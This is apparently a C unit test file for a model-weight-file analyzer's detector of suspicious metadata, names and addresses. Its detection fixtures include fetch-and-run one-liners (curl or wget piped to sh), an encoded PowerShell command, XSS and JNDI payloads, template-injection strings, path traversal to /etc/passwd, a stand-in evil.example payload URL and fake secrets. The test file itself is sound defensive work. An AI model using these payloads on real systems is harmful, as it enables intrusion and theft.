/* Text that has no business in a weight file, and the ordinary text that must not be taken for it.
 * SPDX-License-Identifier: Apache-2.0
 */
#include "analyzer/formats/suspicious.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

static void each_pattern_is_found_whatever_its_case(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "<ScRiPt>alert(1)</script>", "see JAVASCRIPT:alert(1)", "<img src=x onerror=alert(1)>", "__import__('os').system('id')",
        "x=eval(input())", "os.system('id')", "subprocess.run(['id'])", "$(curl http://x/y)", "curl http://x | sh", "wget x |bash",
        "cmd.exe /c calc", "powershell -enc AAAA", "-----BEGIN RSA PRIVATE KEY-----", "AKIAABCDEFGHIJKLMNOP", "hf_abcdefghijklmnopqrst",
        "password=hunter2", "../../../etc/cron.d/x", "..\\..\\..\\windows", "/etc/passwd", "${jndi:ldap://x}", "{{config.items()}}",
        "''.__class__.__mro__", "data:text/html,<b>", "\x1b[2J", "a\x7f", "\xe2\x80\xae" "fdp.exe", "\xe2\x81\xa6x",
        "gASVJAAAAAAAAACMBXBvc2l4"};
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        if (!suspicious_text(texts[i], strlen(texts[i])))
            fail_msg("%s is taken for harmless", texts[i]);
}

static void ordinary_metadata_is_left_alone(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "", "pt", "https://huggingface.co/black-forest-labs/FLUX.1-dev", "{\"lr\": 0.0001, \"retrieval(x)\": 1}", "networks.lora",
        "C:\\Users\\me\\sd\\model.safetensors", "/home/me/train/10_cat", "a photo of a cat, <lora:detail:1>", "medieval (castle)",
        "hf_model", "ghp_", "akia", "an evaluation of x", "1.0..2.0", "dreambooth; batch=4", "resized 512x512 | 768x768",
        "my password manager", "../../vae/x.pt", "two\nlines\tand a tab\r\n", "gASV", "\xe2\x80\x94 a dash", "caf\xc3\xa9", "shell (seashell) | shoreline"};
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        if (suspicious_text(texts[i], strlen(texts[i])))
            fail_msg("%s is taken for %s", texts[i], suspicious_text(texts[i], strlen(texts[i])));
}

static void names_may_hold_no_control_characters_and_no_climbing_paths(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        bool bad;
    } names[] = {{"model.layers.0.q_proj.lora_A.weight", false}, {"a..b", false},          {"x.../y", false},
                 {"\x1b[2Jq.lora_A", true},                      {"q\nlora_A", true},      {"q\x7f", true},
                 {"../q.lora_A", true},                          {"a/../b", true},         {"..\\q", true},
                 {"<script>", true},                             {"down_blocks.0", false}, {"été", false}};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if ((suspicious_name(names[i].name, strlen(names[i].name)) != NULL) != names[i].bad)
            fail_msg("name %zu", i);
}

static void a_catalog_is_searched_in_keys_values_and_names(void **state)
{
    (void)state;
    tensor tensors[] = {{.name = "q.lora_A.weight", .entry_offset = 10}, {.name = "\x1b[31mq", .entry_offset = 20}};
    catalog_metadata metadata[] = {{"format", "pt"}, {"note", "<script>"}, {"../x", "1"}, {"note", "<script>"}};
    catalog cat = {.tensors = tensors, .n_tensors = 2, .metadata = metadata, .n_metadata = 4};
    observations seen = {.mem = arena_create()};
    suspicious_catalog(&cat, &seen);
    assert_int_equal(seen.n, 3);
    for (size_t i = 0; i < 3; i++)
        assert_int_equal(seen.list[i].kind, SEEN_TEXT);
    assert_string_equal(seen.list[0].subject, "note");
    assert_non_null(strstr(seen.list[0].text, "a script tag"));
    assert_string_equal(seen.list[1].subject, "../x");
    assert_int_equal(seen.list[2].offset, 20);
    assert_null(strchr(seen.list[2].text, '\x1b'));
    arena_destroy(seen.mem);
}

static void addresses_are_noted_unless_models_are_kept_there(void **state)
{
    (void)state;
    static const struct {
        const char *text, *host; /* NULL: none */
    } cases[] = {{"http://evil.example/payload.sh", "evil.example"},
                 {"see https://10.0.0.1:8080/x", "10.0.0.1"},
                 {"ftp://a.b/c", "a.b"},
                 {"file:///etc/x", NULL},
                 {"https://huggingface.co/x then https://nothuggingface.co/y", "nothuggingface.co"},
                 {"https://github.com/Stability-AI/generative-models", NULL},
                 {"https://raw.github.com/x", NULL},
                 {"https://github.com.evil.example/x", "github.com.evil.example"},
                 {"lora://adapter", NULL},
                 {"a://b", NULL},
                 {"http://", NULL},
                 {"", NULL}};
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        size_t n = 0;
        const char *host = suspicious_address(cases[i].text, strlen(cases[i].text), &n);
        if (!host != !cases[i].host || (host && (n != strlen(cases[i].host) || memcmp(host, cases[i].host, n) != 0)))
            fail_msg("%s: %.*s", cases[i].text, (int)n, host ? host : "none");
    }
    catalog_metadata metadata[] = {{"a", "http://evil.example/"}, {"b", "https://huggingface.co/x"}};
    catalog cat = {.metadata = metadata, .n_metadata = 2};
    observations seen = {.mem = arena_create()};
    suspicious_catalog(&cat, &seen);
    assert_int_equal(seen.n, 1);
    assert_int_equal(seen.list[0].kind, SEEN_ADDRESS);
    arena_destroy(seen.mem);
}

static void only_the_beginning_of_a_long_text_is_read(void **state)
{
    (void)state;
    static char text[(1 << 20) + 32];
    memset(text, 'a', sizeof text - 1);
    memcpy(text + (1 << 20) - 7, "<script", 7);
    assert_non_null(suspicious_text(text, sizeof text - 1));
    memset(text, 'a', sizeof text - 1);
    memcpy(text + (1 << 20), "<script", 7);
    assert_null(suspicious_text(text, sizeof text - 1));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_pattern_is_found_whatever_its_case),
        cmocka_unit_test(ordinary_metadata_is_left_alone),
        cmocka_unit_test(names_may_hold_no_control_characters_and_no_climbing_paths),
        cmocka_unit_test(a_catalog_is_searched_in_keys_values_and_names),
        cmocka_unit_test(addresses_are_noted_unless_models_are_kept_there),
        cmocka_unit_test(only_the_beginning_of_a_long_text_is_read),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
